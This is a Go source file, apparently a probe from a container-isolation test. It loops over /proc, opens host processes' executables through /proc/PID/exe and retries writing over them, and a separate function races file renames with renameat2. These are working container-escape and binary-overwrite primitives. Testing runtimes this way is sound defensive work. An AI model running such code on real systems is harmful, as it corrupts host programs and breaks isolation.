package main

import (
	"errors"
	"fmt"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

// stealExecutables looks, as quickly as it can and for ever, for processes that run another program than this container's, and
// opens the program for writing. It says so of each program once: "saw NAME", and "wrote NAME" if it can.
func stealExecutables() {
	own := map[string]bool{"/bin/busybox": true, "/bin/answerer": true}
	said := map[string]bool{}
	say := func(line string) {
		if !said[line] {
			said[line] = true
			fmt.Println(line)
		}
	}
	for {
		dir, err := os.Open("/proc")
		if err != nil {
			fmt.Fprintln(os.Stderr, "answerer:", err)
			os.Exit(1)
		}
		names, _ := dir.Readdirnames(-1)
		_ = dir.Close()
		for _, name := range names {
			if _, err := strconv.Atoi(name); err != nil {
				continue
			}
			path := "/proc/" + name + "/exe"
			fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			program, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if !own[program] {
				say("saw " + program)
				overwrite(fd, program, say)
			}
			_ = unix.Close(fd)
		}
	}
}

// overwrite tries while the program runs, when the kernel has it busy, and right after it.
func overwrite(fd int, program string, say func(string)) {
	for range 2000 {
		writable, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Pwrite(writable, []byte("#"), 0)
			_ = unix.Close(writable)
		}
		if err == nil {
			say("wrote " + program)
			return
		}
		if !errors.Is(err, unix.ETXTBSY) {
			say("cannot write: " + err.Error())
			return
		}
	}
}

// swap exchanges two names, as quickly as it can and for ever.
func swap(a, b string) {
	for {
		_ = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
	}
}
